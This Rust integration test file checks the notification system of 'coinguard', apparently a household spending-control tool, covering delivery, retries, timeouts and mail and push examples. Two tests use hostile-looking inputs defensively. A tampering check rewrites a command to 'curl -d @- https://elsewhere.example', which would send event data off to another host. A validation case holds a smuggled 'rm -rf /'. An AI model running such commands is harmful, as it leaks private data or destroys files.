//! Notifications end to end: the real binary, a household file, commands
//! that append to files, a fake clock (`COINGUARD_NOW`) to move past
//! back-offs; the household service delivering as events appear; a mail
//! through msmtp to a local SMTP receiver and a push through curl to a
//! local HTTP receiver, as the README's examples do.

use std::io::{BufRead, BufReader, Read, Write};
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

use chrono::{DateTime, TimeDelta, Utc};
use serde_json::{Value, json};

const PIN: &str = "maple syrup river";

/// A household file made through the library (Maria; Sam 15, Lee 30,
/// creator Ana), then driven by the binary at a clock the test sets.
pub(crate) struct Home {
    pub(crate) dir: tempfile::TempDir,
    pub(crate) db: PathBuf,
    pub(crate) now: DateTime<Utc>,
}

impl Home {
    pub(crate) fn new() -> Home {
        use coinguard::domain::{BirthDate, FixedClock, Name, Role};
        coinguard::auth::hash_pins_cheaply_for_tests();
        let dir = tempfile::tempdir().unwrap();
        let db = dir.path().join("home.db");
        // Tomorrow, so every command's clock is after the household's making.
        let now = Utc::now() + TimeDelta::days(1);
        let clock = FixedClock::new(Utc::now());
        let mut config = coinguard::config::Config::defaults().unwrap();
        config.settings.timezone = chrono_tz::UTC;
        let pin = coinguard::auth::Pin::parse(PIN).unwrap();
        let mut store = coinguard::services::init_household(
            &db,
            &config,
            &Name::parse("Maria").unwrap(),
            &pin,
            &clock,
        )
        .unwrap();
        let today = Utc::now().date_naive();
        for (name, role, born) in [
            ("Sam", Role::Teen, today - chrono::Months::new(15 * 12)),
            ("Lee", Role::Teen, today - chrono::Months::new(30 * 12)),
            ("Ana", Role::Creator, today - chrono::Months::new(30 * 12)),
        ] {
            let pass = coinguard::auth::guardian_pass(&mut store, &clock, None, &pin, "").unwrap();
            let born = BirthDate::parse(&born.to_string(), today).unwrap();
            coinguard::services::add_member(
                &mut store,
                &clock,
                pass,
                &Name::parse(name).unwrap(),
                role,
                Some(born),
                None,
            )
            .unwrap();
        }
        Home { dir, db, now }
    }

    pub(crate) fn file(&self, name: &str) -> PathBuf {
        self.dir.path().join(name)
    }

    pub(crate) fn command(&self, args: &[&str]) -> Command {
        let mut cmd = Command::new(env!("CARGO_BIN_EXE_coinguard"));
        cmd.env_remove("COINGUARD_DB")
            .env_remove("COINGUARD_SOCKET")
            .env("COINGUARD_NOW", self.now.to_rfc3339())
            .arg("--db")
            .arg(&self.db)
            .args(args);
        cmd
    }

    pub(crate) fn run(&self, args: &[&str]) -> Output {
        self.command(args).stdin(Stdio::null()).output().unwrap()
    }

    pub(crate) fn guardian(&self, args: &[&str]) -> Output {
        let mut child = self
            .command(args)
            .arg("--pin-stdin")
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let written = child
            .stdin
            .take()
            .unwrap()
            .write_all(format!("{PIN}\n").as_bytes());
        // A command refused before it reads its PIN (a usage error) may have
        // exited already, closing the pipe: its exit code and message say
        // what happened, and the tests assert on those.
        if let Err(e) = written {
            assert_eq!(e.kind(), std::io::ErrorKind::BrokenPipe, "{e}");
        }
        child.wait_with_output().unwrap()
    }

    pub(crate) fn ok(&self, out: Output) -> String {
        assert_eq!(
            out.status.code(),
            Some(0),
            "stdout: {}\nstderr: {}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8_lossy(&out.stdout).to_string()
    }

    pub(crate) fn json(&self, args: &[&str]) -> Value {
        let mut all = vec!["--json"];
        all.extend_from_slice(args);
        serde_json::from_str(&self.ok(self.run(&all))).unwrap()
    }

    pub(crate) fn later(&mut self, by: TimeDelta) {
        self.now += by;
    }
}

/// The JSON documents a command appended to `path`, one per line.
fn events_in(path: &Path) -> Vec<Value> {
    std::fs::read_to_string(path)
        .unwrap_or_default()
        .lines()
        .filter(|l| !l.trim().is_empty())
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

fn ids(events: &[Value]) -> Vec<String> {
    events
        .iter()
        .map(|e| e["id"].as_str().unwrap().to_string())
        .collect()
}

#[test]
fn a_command_that_appends_to_a_file_gets_each_event_once_with_its_id() {
    let home = Home::new();
    let (events, summaries) = (home.file("events.jsonl"), home.file("summaries.txt"));
    let command = format!(
        "cat >> '{}'; printf '%s\\n' \"$COINGUARD_SUMMARY\" >> '{}'",
        events.display(),
        summaries.display()
    );
    let added = home.ok(home.guardian(&["notify", "add", "--command", &command]));
    assert!(added.contains("notify command #1"), "{added}");
    // Sam is 15: the purchase becomes request #1; Maria denies it.
    assert_eq!(home.run(&["buy", "Sam", "coins-70"]).status.code(), Some(3));
    home.ok(home.guardian(&["request", "deny", "1", "--reason", "not today"]));
    // Nothing runs until a deliverer does: spending never waits for it.
    assert!(events_in(&events).is_empty());

    let run = home.json(&["notify", "run"]);
    assert_eq!(run["delivered"].as_array().unwrap().len(), 2, "{run}");
    let got = events_in(&events);
    assert_eq!(ids(&got), ["request-1-waiting", "request-1-denied"]);
    assert_eq!(got[0]["kind"], "request_waiting");
    assert_eq!(got[0]["member"], "Sam");
    assert_eq!(got[1]["kind"], "request_denied");
    assert_eq!(got[1]["details"]["resolution"], "not today");
    let lines = std::fs::read_to_string(&summaries).unwrap();
    assert_eq!(
        lines,
        "request #1 waits for a guardian: Sam buys 70 coins for 0.99 USD (pack coins-70, 0.0141 USD per coin)\n\
         request #1 denied: Sam buys 70 coins for 0.99 USD (pack coins-70, 0.0141 USD per coin) (not today)\n"
    );

    // Delivered once: a second run delivers nothing again.
    let again = home.json(&["notify", "run"]);
    assert_eq!(again["delivered"], json!([]));
    assert_eq!(events_in(&events).len(), 2);
    let list = home.json(&["notify", "list"]);
    assert_eq!(list["commands"][0]["delivered"], 2);
    assert_eq!(list["commands"][0]["waiting"], 0);

    // Only the kinds asked for, only for the member named.
    let refusals = home.file("refusals.jsonl");
    home.ok(home.guardian(&[
        "notify",
        "add",
        "--command",
        &format!("cat >> '{}'", refusals.display()),
        "--events",
        "refusal,limit-100",
        "--member",
        "Lee",
    ]));
    home.ok(home.guardian(&[
        "limit", "set", "Lee", "--scope", "purchase", "--window", "day", "--hard", "4.99",
    ]));
    home.ok(home.run(&["buy", "Lee", "coins-350"]));
    assert_eq!(home.run(&["buy", "Lee", "coins-70"]).status.code(), Some(4));
    assert_eq!(home.run(&["buy", "Sam", "coins-70"]).status.code(), Some(3));
    home.ok(home.run(&["notify", "run"]));
    let got = events_in(&refusals);
    let kinds: Vec<&str> = got.iter().map(|e| e["kind"].as_str().unwrap()).collect();
    assert_eq!(kinds, ["limit_100", "refusal"], "{got:?}");
    assert!(got.iter().all(|e| e["member"] == "Lee"));
}

#[test]
fn a_failing_command_is_tried_again_with_back_off_and_guardians_are_told() {
    let mut home = Home::new();
    let (flag, events) = (home.file("receiver-up"), home.file("events.jsonl"));
    let command = format!(
        "test -e '{}' || {{ echo 'receiver is down' >&2; exit 3; }}; cat >> '{}'",
        flag.display(),
        events.display()
    );
    home.ok(home.guardian(&["notify", "add", "--command", &command]));
    assert_eq!(home.run(&["buy", "Sam", "coins-70"]).status.code(), Some(3));

    let run = home.json(&["notify", "run"]);
    assert_eq!(run["delivered"], json!([]));
    assert_eq!(
        run["failed"][0][2],
        "it exited with status 3: receiver is down"
    );
    let list = home.ok(home.run(&["notify", "list"]));
    assert!(
        list.contains(
            "the last attempt failed (it exited with status 3: receiver is down); it is tried again"
        ),
        "{list}"
    );
    // Not before its back-off (30 s, then 60 s, then 120 s)...
    home.later(TimeDelta::seconds(10));
    assert_eq!(home.json(&["notify", "run"])["failed"], json!([]));
    home.later(TimeDelta::seconds(25));
    assert_eq!(
        home.json(&["notify", "run"])["failed"]
            .as_array()
            .unwrap()
            .len(),
        1
    );
    home.later(TimeDelta::seconds(65));
    // The third failure in a row also records "notifications are failing",
    // an event of its own, which this same command fails to deliver too.
    assert!(
        !home.json(&["notify", "run"])["failed"]
            .as_array()
            .unwrap()
            .is_empty()
    );
    // Three failures in a row: notify list and the guardian's alerts say so, and why.
    let list = home.ok(home.run(&["notify", "list"]));
    assert!(
        list.contains("FAILING: 4 attempts in a row failed") && list.contains("receiver is down"),
        "{list}"
    );
    let alerts = home.ok(home.run(&["alert", "list"]));
    assert!(
        alerts.contains("notifications are failing: notify command #1")
            && alerts.contains("receiver is down"),
        "{alerts}"
    );
    // The receiver comes back: after the back-off, everything waiting arrives.
    std::fs::write(&flag, "").unwrap();
    home.later(TimeDelta::seconds(125));
    let run = home.json(&["notify", "run"]);
    assert!(run["failed"].as_array().unwrap().is_empty(), "{run}");
    let got = ids(&events_in(&events));
    assert!(got.contains(&"request-1-waiting".to_string()), "{got:?}");
    assert!(
        got.iter().any(|id| id.starts_with("alert-")),
        "the failing notice itself is delivered too: {got:?}"
    );
    let list = home.json(&["notify", "list"]);
    assert_eq!(list["commands"][0]["failing"], false);
    assert_eq!(list["commands"][0]["waiting"], 0);
    // How deliveries went is not policy: the record still checks out...
    let verify = home.ok(home.run(&["verify"]));
    assert!(verify.starts_with("All good."), "{verify}");
    // ...while the command a guardian set is: changed behind the log's
    // back (to send the events elsewhere), verify names it.
    let conn = rusqlite::Connection::open(&home.db).unwrap();
    conn.execute(
        "UPDATE notify_commands SET command = 'curl -d @- https://elsewhere.example'",
        [],
    )
    .unwrap();
    drop(conn);
    let out = home.run(&["verify"]);
    let text =
        String::from_utf8_lossy(&out.stdout).to_string() + &String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{text}");
    assert!(text.contains("notify command #1"), "{text}");
}

#[test]
fn the_deliverer_killed_in_the_middle_loses_no_event() {
    let mut home = Home::new();
    let (started, pid, events) = (
        home.file("started"),
        home.file("command.pid"),
        home.file("events.jsonl"),
    );
    // The first time, the command hangs (the deliverer is killed then);
    // afterwards it appends.
    let command = format!(
        "if [ -e '{s}' ]; then cat >> '{e}'; else cat > /dev/null; echo $$ > '{p}'; touch '{s}'; sleep 60; fi",
        s = started.display(),
        e = events.display(),
        p = pid.display()
    );
    home.ok(home.guardian(&["notify", "add", "--command", &command]));
    assert_eq!(home.run(&["buy", "Sam", "coins-70"]).status.code(), Some(3));

    let mut deliverer = home
        .command(&["notify", "run", "--timeout", "120"])
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let until = Instant::now() + Duration::from_secs(20);
    while !started.exists() {
        assert!(Instant::now() < until, "the command never started");
        std::thread::sleep(Duration::from_millis(20));
    }
    deliverer.kill().unwrap(); // SIGKILL, mid-delivery
    deliverer.wait().unwrap();
    if let Ok(text) = std::fs::read_to_string(&pid)
        && let Ok(n) = text.trim().parse::<i32>()
    {
        let _ = nix::sys::signal::killpg(
            nix::unistd::Pid::from_raw(n),
            nix::sys::signal::Signal::SIGKILL,
        );
    }
    assert!(events_in(&events).is_empty());
    let list = home.json(&["notify", "list"]);
    assert_eq!(list["commands"][0]["waiting"], 1, "still waiting: {list}");
    // Its claim lasts the timeout (120 s) and a second: then the next run delivers it.
    home.later(TimeDelta::seconds(60));
    assert_eq!(home.json(&["notify", "run"])["delivered"], json!([]));
    home.later(TimeDelta::seconds(62));
    let run = home.json(&["notify", "run"]);
    assert_eq!(run["delivered"].as_array().unwrap().len(), 1, "{run}");
    assert_eq!(ids(&events_in(&events)), ["request-1-waiting"]);
}

#[test]
fn bad_notify_input_gets_a_specific_message_and_changes_nothing() {
    let home = Home::new();
    home.ok(home.guardian(&["notify", "add", "--command", "true"]));
    let count = |home: &Home| -> (i64, i64) {
        let conn = rusqlite::Connection::open(&home.db).unwrap();
        (
            conn.query_row("SELECT COUNT(*) FROM guardian_actions", [], |r| r.get(0))
                .unwrap(),
            conn.query_row(
                "SELECT COUNT(*) FROM notify_commands WHERE removed_at_us IS NULL",
                [],
                |r| r.get(0),
            )
            .unwrap(),
        )
    };
    let before = count(&home);
    let long = "x".repeat(1001);
    let cases: &[(&[&str], &str)] = &[
        (
            &["notify", "add", "--command", "  "],
            "give the command to run with --command",
        ),
        (
            &["notify", "add", "--command", &long],
            "the command is 1001 characters long",
        ),
        (
            &["notify", "add", "--command", "echo a\nrm -rf /"],
            "contains a control character",
        ),
        (
            &[
                "notify",
                "add",
                "--command",
                "true",
                "--events",
                "refusal,payday",
            ],
            "there is no event called \"payday\"; events are: request_waiting",
        ),
        (
            &["notify", "add", "--command", "true", "--member", "Nobody"],
            "there is no member called \"Nobody\"",
        ),
        (
            &["notify", "add", "--command", "true", "--member", "Maria"],
            "\"Maria\" is a guardian",
        ),
        (
            &["notify", "remove", "7"],
            "there is no notify command #7; notify commands are: #1",
        ),
        (&["notify", "remove", "seven"], "notify command"),
        (
            &["notify", "run", "--timeout", "0"],
            "the timeout must be between 1 and 3600 seconds, not \"0\"",
        ),
        (&["notify", "run", "--timeout", "1e3"], "not \"1e3\""),
    ];
    for (args, message) in cases {
        let out = if args[1] == "run" {
            home.run(args)
        } else {
            home.guardian(args)
        };
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{args:?}: {stderr}");
        assert!(stderr.contains(message), "{args:?}: {stderr}");
        assert_eq!(count(&home), before, "{args:?} changed something");
    }
}

#[test]
fn only_guardians_manage_notify_commands_through_the_service() {
    use coinguard::api::call::GuardianAuth;
    use coinguard::api::{Call, Caller, Session};
    use coinguard::client::Household;
    use coinguard::domain::ErrorKind;
    let fixture = crate::support::Household::new();
    let path = fixture.path();
    let clock = &fixture.clock;
    let me = coinguard::service::peer::current();
    let auth = || GuardianAuth {
        guardian: Some("Maria".into()),
        pin: crate::support::GUARDIAN_PIN.into(),
    };
    let mut owner = Household::open(&path, clock).unwrap();
    owner
        .call(Call::Link {
            member: "Sam".into(),
            os_user: me.user.clone(),
            auth: auth(),
        })
        .unwrap();
    let session = Session::new(
        coinguard::ledger::Store::open(&path).unwrap(),
        clock,
        Caller::Account(me.clone()),
    )
    .via_service();
    let mut teen = Household::Embedded(Box::new(session));
    let refused = teen.call(Call::NotifyList).unwrap_err();
    assert_eq!(refused.kind, ErrorKind::Forbidden, "{refused}");
    let refused = teen
        .call(Call::NotifyAdd {
            command: "true".into(),
            events: vec![],
            member: None,
            auth: auth(),
        })
        .unwrap_err();
    assert_eq!(refused.kind, ErrorKind::Forbidden, "{refused}");
    let refused = teen
        .call(Call::NotifyRun { timeout_secs: None })
        .unwrap_err();
    assert!(
        refused
            .message
            .contains("the household service delivers notifications itself"),
        "{refused}"
    );
    // The owner (a guardian's own account, or the file's) may.
    owner
        .call(Call::NotifyAdd {
            command: "true".into(),
            events: vec![],
            member: None,
            auth: auth(),
        })
        .unwrap();
    let list: coinguard::api::reply::NotifyListView = owner.ask(Call::NotifyList).unwrap();
    assert_eq!(list.commands.len(), 1);
}

#[test]
fn the_household_service_delivers_as_events_appear() {
    use crate::service::{Client, Service};
    let h = crate::support::Household::new();
    let db = h.path();
    let dir = h.dir;
    drop(h.store);
    let events = dir.path().join("events.jsonl");
    let socket = dir.path().join("coinguard.sock");
    let service = Service::start(&db, &socket, &[]);
    let mut client = Client::connect(&service.socket);
    let auth = json!({"guardian": "Maria", "pin": crate::support::GUARDIAN_PIN});
    let added = client.send(&json!({"call": "notify_add",
        "command": format!("cat >> '{}'", events.display()),
        "events": ["limit_100", "refusal"], "member": null, "auth": auth}));
    assert_eq!(added["ok"]["reply"], "change", "{added}");
    let limit = client.send(
        &json!({"call": "set_limit", "member": "Sam", "scope": "purchase",
        "window": "day", "soft": null, "hard": "1", "auth": auth}),
    );
    assert_eq!(limit["ok"]["reply"], "change", "{limit}");
    let buy = client.send(&json!({"call": "spend",
        "spend": {"what": "pack", "member": "Sam", "pack": "coins-350"},
        "preview": false, "key": null, "pin": null}));
    assert_eq!(buy["ok"]["outcome"], "deny", "{buy}");
    // No one runs `notify run`: the service delivers by itself.
    let until = Instant::now() + Duration::from_secs(20);
    while events_in(&events).is_empty() {
        assert!(
            Instant::now() < until,
            "the service delivered nothing in 20 s"
        );
        std::thread::sleep(Duration::from_millis(50));
    }
    let got = events_in(&events);
    assert_eq!(got[0]["kind"], "refusal");
    assert_eq!(got[0]["member"], "Sam");
    let run = client.send(&json!({"call": "notify_run", "timeout_secs": null}));
    assert!(
        run["error"]["message"]
            .as_str()
            .unwrap_or_default()
            .contains("the household service delivers notifications itself"),
        "{run}"
    );
}

/// A one-message SMTP receiver on 127.0.0.1: writes what it receives to
/// `spool` (a mail spool of one), then stops.
fn smtp_receiver(spool: PathBuf) -> (u16, std::thread::JoinHandle<()>) {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let handle = std::thread::spawn(move || {
        let (stream, _) = listener.accept().unwrap();
        stream
            .set_read_timeout(Some(Duration::from_secs(20)))
            .unwrap();
        let mut writer = stream.try_clone().unwrap();
        let mut reader = BufReader::new(stream);
        let say = |w: &mut std::net::TcpStream, line: &str| {
            w.write_all(format!("{line}\r\n").as_bytes()).unwrap();
        };
        say(&mut writer, "220 localhost test receiver");
        let mut mail = String::new();
        let mut line = String::new();
        loop {
            line.clear();
            if reader.read_line(&mut line).unwrap_or(0) == 0 {
                break;
            }
            let upper = line.to_uppercase();
            if upper.starts_with("EHLO") || upper.starts_with("HELO") {
                say(&mut writer, "250 localhost");
            } else if upper.starts_with("DATA") {
                say(&mut writer, "354 go ahead");
                loop {
                    line.clear();
                    if reader.read_line(&mut line).unwrap_or(0) == 0 || line == ".\r\n" {
                        break;
                    }
                    mail.push_str(&line);
                }
                std::fs::write(&spool, &mail).unwrap();
                say(&mut writer, "250 queued");
            } else if upper.starts_with("QUIT") {
                say(&mut writer, "221 bye");
                break;
            } else {
                say(&mut writer, "250 ok");
            }
        }
    });
    (port, handle)
}

/// A one-request HTTP receiver on 127.0.0.1 standing in for an ntfy
/// server: writes the request it receives to `got`, answers 200.
fn http_receiver(got: PathBuf) -> (u16, std::thread::JoinHandle<()>) {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let handle = std::thread::spawn(move || {
        let (mut stream, _) = listener.accept().unwrap();
        stream
            .set_read_timeout(Some(Duration::from_secs(20)))
            .unwrap();
        let mut request = Vec::new();
        let mut buf = [0_u8; 4096];
        loop {
            let n = stream.read(&mut buf).unwrap_or(0);
            if n == 0 {
                break;
            }
            request.extend_from_slice(&buf[..n]);
            let text = String::from_utf8_lossy(&request).to_string();
            if let Some((head, body)) = text.split_once("\r\n\r\n") {
                let length = head
                    .lines()
                    .find_map(|l| {
                        l.to_lowercase()
                            .strip_prefix("content-length:")
                            .map(|v| v.trim().parse::<usize>().unwrap_or(0))
                    })
                    .unwrap_or(0);
                if body.len() >= length {
                    break;
                }
            }
        }
        std::fs::write(&got, &request).unwrap();
        stream
            .write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}")
            .unwrap();
    });
    (port, handle)
}

/// The README's mail and phone-push examples, end to end: a notification
/// arrives in a mail spool (through msmtp, a real SMTP client, to a local
/// receiver) and at an ntfy-style server (through curl).
#[test]
fn a_notification_arrives_by_mail_and_by_push() {
    let home = Home::new();
    let spool = home.file("mail-spool");
    let pushed = home.file("pushed.http");
    let (smtp_port, smtp) = smtp_receiver(spool.clone());
    let (http_port, http) = http_receiver(pushed.clone());
    // As in the README, with the server given on the command line
    // instead of in ~/.msmtprc.
    let mail = format!(
        "{{ printf 'Subject: coinguard: %s\\n\\n' \"$COINGUARD_SUMMARY\"; cat; }} | msmtp --host=127.0.0.1 --port={smtp_port} --auth=off --tls=off --from=coinguard@localhost maria@localhost"
    );
    let push = format!(
        "curl -fsS -H \"Title: coinguard\" -d \"$COINGUARD_SUMMARY\" http://127.0.0.1:{http_port}/family-coinguard"
    );
    home.ok(home.guardian(&[
        "notify",
        "add",
        "--command",
        &mail,
        "--events",
        "request_waiting",
    ]));
    home.ok(home.guardian(&[
        "notify",
        "add",
        "--command",
        &push,
        "--events",
        "request_waiting",
    ]));
    assert_eq!(home.run(&["buy", "Sam", "coins-70"]).status.code(), Some(3));
    let run = home.json(&["notify", "run", "--timeout", "20"]);
    assert_eq!(run["delivered"].as_array().unwrap().len(), 2, "{run}");
    smtp.join().unwrap();
    http.join().unwrap();
    let mail = std::fs::read_to_string(&spool).unwrap();
    assert!(
        mail.contains("Subject: coinguard: request #1 waits for a guardian: Sam buys 70 coins"),
        "{mail}"
    );
    assert!(mail.contains("\"id\":\"request-1-waiting\""), "{mail}");
    let request = std::fs::read_to_string(&pushed).unwrap();
    assert!(
        request.starts_with("POST /family-coinguard HTTP/1.1"),
        "{request}"
    );
    assert!(request.contains("Title: coinguard"), "{request}");
    assert!(
        request.ends_with("request #1 waits for a guardian: Sam buys 70 coins for 0.99 USD (pack coins-70, 0.0141 USD per coin)"),
        "{request}"
    );
}

#[test]
fn each_member_gets_one_weekly_summary_per_week() {
    let mut home = Home::new();
    let events = home.file("weekly.jsonl");
    home.ok(home.guardian(&[
        "notify",
        "add",
        "--command",
        &format!("cat >> '{}'", events.display()),
        "--events",
        "weekly_summary",
    ]));
    home.ok(home.run(&["buy", "Lee", "coins-350"]));
    // Two weeks on: the first whole week the household saw is over.
    home.later(TimeDelta::days(14));
    let run = home.json(&["notify", "run"]);
    assert_eq!(run["summaries"], 3, "Sam, Lee and Ana: {run}");
    let got = events_in(&events);
    assert_eq!(got.len(), 3);
    assert!(got.iter().all(|e| e["kind"] == "weekly_summary"
        && e["id"].as_str().unwrap().starts_with("weekly-summary-")));
    let summary = got.iter().find(|e| e["member"] == "Lee").unwrap();
    assert!(summary["details"]["money_flow"].is_object(), "{summary}");
    assert!(
        summary["summary"]
            .as_str()
            .unwrap()
            .contains("where the money went: of"),
        "{summary}"
    );
    // Run again, from any process: nothing new for the same week.
    let again = home.json(&["notify", "run"]);
    assert_eq!(
        (again["summaries"].clone(), again["delivered"].clone()),
        (json!(0), json!([]))
    );
}

/// The README's `notify add` examples, as written there, each run for one
/// event with stand-ins for notify-send, sendmail, msmtp and curl first on
/// PATH that record what they were given: the quoting holds, and each gets
/// the summary (and the mail commands the event's JSON).
#[test]
fn the_readmes_notify_examples_run_as_written() {
    let readme =
        std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/README.md")).unwrap();
    let section = readme
        .split("## Notifications")
        .nth(1)
        .and_then(|rest| rest.split("```sh").nth(1))
        .and_then(|block| block.split("```").next())
        .unwrap();
    // Join continued lines, keep the `notify add` commands.
    let mut commands = Vec::new();
    let mut current = String::new();
    for line in section.lines() {
        if line.trim_start().starts_with('#') || line.trim().is_empty() {
            continue;
        }
        match line.strip_suffix('\\') {
            Some(start) => current.push_str(start),
            None => {
                current.push_str(line);
                if current.starts_with("coinguard notify add") {
                    commands.push(std::mem::take(&mut current));
                }
                current.clear();
            }
        }
    }
    assert_eq!(commands.len(), 5, "{commands:#?}");
    let home = Home::new();
    let bin = home.file("bin");
    let log = home.file("calls.log");
    std::fs::create_dir(&bin).unwrap();
    for tool in ["notify-send", "sendmail", "msmtp", "curl"] {
        let path = bin.join(tool);
        std::fs::write(
            &path,
            format!(
                "#!/bin/sh\n{{ printf '%s' '{tool}'; for a in \"$@\"; do printf ' [%s]' \"$a\"; done; printf '\\n'; \
                 case '{tool}' in sendmail|msmtp) cat;; esac; printf '\\n'; }} >> '{}'\n",
                log.display()
            ),
        )
        .unwrap();
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    let path = format!(
        "{}:{}",
        bin.display(),
        std::env::var("PATH").unwrap_or_default()
    );
    for command in &commands {
        // Through sh, as a person pastes it; the PIN on standard input.
        let out = Command::new("/bin/sh")
            .arg("-c")
            .arg(format!(
                "{} --db '{}' --pin-stdin",
                command.replacen("coinguard", env!("CARGO_BIN_EXE_coinguard"), 1),
                home.db.display()
            ))
            .env("COINGUARD_NOW", home.now.to_rfc3339())
            .env_remove("COINGUARD_DB")
            .env_remove("COINGUARD_SOCKET")
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .and_then(|mut child| {
                child
                    .stdin
                    .take()
                    .unwrap()
                    .write_all(format!("{PIN}\n").as_bytes())?;
                child.wait_with_output()
            })
            .unwrap();
        assert!(
            out.status.success(),
            "{command}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
    assert_eq!(home.run(&["buy", "Sam", "coins-70"]).status.code(), Some(3));
    let run = home
        .command(&["--json", "notify", "run"])
        .env("PATH", &path)
        .output()
        .unwrap();
    let doc: Value = serde_json::from_slice(&run.stdout).unwrap();
    assert_eq!(doc["delivered"].as_array().unwrap().len(), 5, "{doc}");
    let calls = std::fs::read_to_string(&log).unwrap();
    let summary = "request #1 waits for a guardian: Sam buys 70 coins for 0.99 USD (pack coins-70, 0.0141 USD per coin)";
    assert!(
        calls.contains(&format!("notify-send [coinguard] [{summary}]")),
        "{calls}"
    );
    assert!(
        calls.contains(&format!(
            "sendmail [-t]\nTo: maria@example.org\nSubject: coinguard: {summary}\n\n{{\"at\""
        )),
        "{calls}"
    );
    assert!(
        calls.contains(&format!(
            "msmtp [maria@example.org]\nSubject: coinguard: {summary}\n\n{{"
        )),
        "{calls}"
    );
    assert!(calls.contains(&format!("curl [-fsS] [-H] [Title: coinguard] [-d] [{summary}] [https://ntfy.example.org/family-coinguard]")), "{calls}");
    assert!(calls.contains(&format!("curl [-fsS] [https://gotify.example.org/message?token=APP_TOKEN] [-F] [title=coinguard] [-F] [message={summary}]")), "{calls}");
}

/// A command that hangs is stopped at its timeout (its whole process group)
/// and counts as failed; one that leaves a process behind holding its
/// output is done when it exits 0. Neither holds the deliverer up.
#[test]
fn a_hanging_command_times_out_and_a_lingering_one_does_not_hold_up_delivery() {
    let home = Home::new();
    let events = home.file("events.jsonl");
    home.ok(home.guardian(&["notify", "add", "--command", "sleep 30"]));
    home.ok(home.guardian(&[
        "notify",
        "add",
        "--command",
        &format!("(sleep 5 >&2 &); cat >> '{}'", events.display()),
    ]));
    assert_eq!(home.run(&["buy", "Sam", "coins-70"]).status.code(), Some(3));
    let started = Instant::now();
    let run = home.json(&["notify", "run", "--timeout", "1"]);
    assert!(
        started.elapsed() < Duration::from_secs(10),
        "{:?}",
        started.elapsed()
    );
    assert_eq!(
        run["failed"][0][2], "it did not finish within 1 s and was stopped",
        "{run}"
    );
    assert_eq!(run["delivered"][0][0], "request-1-waiting", "{run}");
    assert_eq!(ids(&events_in(&events)), ["request-1-waiting"]);
}
